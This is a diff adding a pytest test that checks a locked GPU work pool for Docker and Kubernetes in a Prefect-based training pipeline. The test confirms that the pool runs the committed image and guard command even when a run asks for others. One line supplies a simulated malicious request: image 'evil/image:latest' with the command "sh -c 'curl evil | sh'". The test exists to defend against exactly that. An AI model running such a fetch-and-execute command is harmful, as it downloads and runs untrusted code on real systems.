@@ -384,3 +384,40 @@ def test_prefect_deploy_registers_them_on_a_real_server(prefect_api, repo_root, 
     assert deps["ci"].parameters["params"]["promotion"] == "manual"
     assert deps["train"].enforce_parameter_schema
     assert "PipelineParams" in deps["train"].parameter_openapi_schema["definitions"]
+
+
+@pytest.mark.parametrize("kind", ["docker", "kubernetes"])
+def test_a_locked_gpu_pool_runs_the_guard_in_the_committed_image_whatever_a_run_asks(deployments, k8s_template,
+                                                                                     repo_root, kind):
+    """``trainflow pool create gpu-... --type docker|kubernetes --prefect-file deploy/gpu.prefect.yaml``: the
+    container runs the image and the guard fixed at pool creation, as each worker's own code renders it,
+    with a run asking for another image and command; the guard accepts the deployment as
+    ``prefect deploy`` stores it."""
+    from flows.worker_guard import IMAGE_PYTHON, IMAGE_REPO, Guard, is_locked, pool_template
+
+    name = {"docker": "train-gpu-docker", "kubernetes": "train-gpu-k8s"}[kind]
+    dep = deployments[0][name]
+    values = {k: ENV[k] for k in ENV if k != "TRAINFLOW_REPO_DIR"}
+    guard = Guard(repo_root, "deploy/gpu.prefect.yaml", values)
+    template = pool_template(guard, kind, k8s_template if kind == "kubernetes" else None)
+    assert is_locked(template)
+    stored = {"name": name, "entrypoint": dep["entrypoint"], "pull_steps": dep["pull"],
+              "work_pool_name": dep["work_pool"]["name"], "job_variables": dep["work_pool"]["job_variables"]}
+    assert guard.check({"parameters": {}, "job_variables": {}}, stored) is None
+    asked = {**dep["work_pool"]["job_variables"], "image": "evil/image:latest", "command": "sh -c 'curl evil | sh'"}
+    guard_argv = [IMAGE_PYTHON, "-I", "-m", "flows.worker_guard", "--repo", IMAGE_REPO,
+                  "--prefect-file", "deploy/gpu.prefect.yaml"]
+    if kind == "kubernetes":
+        container = _render_k8s(asked, template)["spec"]["template"]["spec"]["containers"][0]
+        image, argv = container["image"], container["args"]
+    else:
+        from prefect_docker.worker import DockerWorker, DockerWorkerJobConfiguration
+
+        config = asyncio.run(DockerWorkerJobConfiguration.from_template_and_values(template, asked,
+                                                                                  client=NoPrefectApi()))
+        config.prepare_for_flow_run(_flow_run())
+        settings = DockerWorker._build_container_settings(None, DockerEngineVersion(), config)
+        image, argv = settings["image"], shlex.split(settings["command"])
+    assert image == ENV["TRAINFLOW_IMAGE"]
+    assert argv[:len(guard_argv)] == guard_argv
+    assert ("--set", f"TRAINFLOW_GIT_SHA={ENV['TRAINFLOW_GIT_SHA']}") in zip(argv, argv[1:])
